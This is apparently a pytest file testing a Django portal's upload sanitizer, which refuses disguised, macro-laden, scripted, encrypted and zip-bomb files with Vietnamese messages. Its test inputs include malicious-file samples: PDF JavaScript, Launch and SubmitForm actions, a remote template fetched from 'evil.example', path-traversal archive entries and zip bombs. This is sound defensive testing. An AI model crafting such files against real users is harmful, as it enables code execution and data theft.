"""What lies, what acts and what unfolds is refused, and the uploader reads why."""

import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from portal.media.uploads import document_extensions, upload_make_safe
from tests.portal.media import samples


def refusal(name: str, content: bytes) -> str:
    """The Vietnamese text of the refusal; empty for a file that passes."""
    with translation.override("vi"):
        try:
            upload_make_safe(upload=SimpleUploadedFile(name, content), allowed=document_extensions())
        except ValidationError as error:
            return " ".join(error.messages)
    return ""


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("a.svg", samples.SVG, "Không tải lên được loại tệp này (.svg)"),
        ("a.pdf", samples.HTML, "không đúng với đuôi"),
        ("a.pdf", b"alert(1)//%PDF-1.4", "không đúng với đuôi"),
        ("a.pdf", samples.HTML + samples.pdf(), "không đúng với đuôi"),
        ("a.pdf", samples.pdf() + samples.archive({"A.class": b"x"}), "hai loại tệp"),
        ("a.pdf", samples.pdf()[:60], "Tệp bị hỏng"),
        ("a.pdf", samples.pdf(password="123456"), "khóa bằng mật khẩu"),
        ("a.txt", samples.HTML, "trang web hoặc chứa mã lệnh"),
        ("a.txt", samples.HTML.decode().encode("utf-16"), "trang web hoặc chứa mã lệnh"),
        ("a.csv", samples.pdf(), "không đúng với đuôi"),
        ("a.docx", samples.xlsx(), "không đúng với đuôi"),
        ("a.docx", samples.ole("EncryptedPackage"), "không đúng với đuôi"),
        ("a.odt", samples.docx(), "không đúng với đuôi"),
        ("a.doc", samples.docx(), "không đúng với đuôi"),
        ("a.doc", samples.ole("Root Entry", "Property"), "không đúng với đuôi"),
        ("a.doc", samples.ole("WordDocument", "_VBA_PROJECT"), "macro"),
        ("a.rtf", rb"{\rtf1{\object\objdata 0105}}", "đối tượng nhúng"),
        ("a.jpg", samples.HTML, "không đúng với đuôi"),
        ("a.zip", b"MZ" + samples.archive({"a.txt": b"x"}), "không đúng với đuôi"),
        ("a.pdf", b"", "rỗng"),
    ],
)
def test_what_lies_is_refused(name, content, said):
    assert said in refusal(name, content)


@pytest.mark.parametrize(
    ("prepare", "said"),
    [
        (samples.starts_with(samples.action("JavaScript", JS="app.alert(1)")), "tập lệnh"),
        (samples.starts_with(samples.action("Launch", F="cmd.exe")), "chương trình"),
        (samples.starts_with(samples.action("SubmitForm", F="https://evil.example")), "gửi biểu mẫu"),
        (samples.scripts_by_name, "tập lệnh"),
        (lambda writer: writer.add_attachment("a.exe", b"MZ"), "a.exe"),
    ],
    ids=["javascript", "launch", "submit", "names-tree", "attachment"],
)
def test_a_pdf_that_acts_is_refused(prepare, said):
    assert said in refusal("a.pdf", samples.pdf(prepare))


def test_a_script_outside_the_table_of_objects_is_found():
    hidden = samples.pdf().replace(b"%%EOF", b"9 0 obj <</S/JavaScript/JS(x)>> endobj %%EOF")
    assert "tập lệnh" in refusal("a.pdf", hidden)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (samples.docx(**{"word__vbaProject.bin": b"x"}), "macro"),
        (samples.docx(**{"word__activeX__activeX1.bin": b"x"}), "macro"),
        (
            samples.docx(**{"[Content_Types].xml": samples.WORD_TYPES + b"ms-word.document.macroEnabled"}),
            "macro",
        ),
        (
            samples.docx(
                **{
                    "word___rels__settings.xml.rels": b'<Relationship Type="x/attachedTemplate" '
                    b'Target="https://evil.example/a.dotm"/>'
                }
            ),
            "lấy mẫu",
        ),
    ],
    ids=["vba", "activex", "docm", "template"],
)
def test_a_document_with_macros_is_refused(content, said):
    assert said in refusal("a.docx", content)


def test_an_open_document_with_macros_is_refused():
    assert "macro" in refusal("a.odt", samples.odt({"Basic/Standard/Module1.xml": b"<x/>"}))


# --- Bombs


def test_a_zip_bomb_is_refused_folded(monkeypatch):
    monkeypatch.setattr(zipfile.ZipExtFile, "read", lambda *args: pytest.fail("unpacked"))
    bomb = samples.archive({f"{number}.txt": bytes(30_000_000) for number in range(2)})
    assert len(bomb) < 200_000
    assert "giải nén" in refusal("a.zip", bomb)


def test_entries_without_number_are_refused():
    many = samples.archive({f"{number}.txt": b"" for number in range(6_000)})
    assert "giải nén" in refusal("a.zip", many)


def test_a_list_of_entries_too_long_to_read_is_not_read(monkeypatch):
    lied = bytearray(samples.archive({"a.txt": b"x"}))
    at = lied.rfind(b"PK\x05\x06")
    lied[at + 10 : at + 12] = b"\xff\xff"
    monkeypatch.setattr(zipfile.ZipFile, "_RealGetContents", lambda self: pytest.fail("read"))
    assert "giải nén" in refusal("a.zip", bytes(lied))


@pytest.mark.parametrize(
    ("entries", "said"),
    [
        ({"trong.zip": b"PK"}, "trong.zip"),
        ({"a/chay.exe": b"MZ"}, "chay.exe"),
        ({"khong-duoi": b"x"}, "khong-duoi"),
        ({"../../etc/cron.txt": b"x"}, "../../etc/cron.txt"),
        ({"C:/a.txt": b"x"}, "C:/a.txt"),
    ],
)
def test_what_an_archive_may_hold(entries, said):
    assert said in refusal("a.zip", samples.archive(entries))


def test_a_locked_archive_is_refused():
    locked = bytearray(samples.archive({"a.txt": b"x"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.find(mark) + offset] |= 1
    assert "khóa bằng mật khẩu" in refusal("a.zip", bytes(locked))
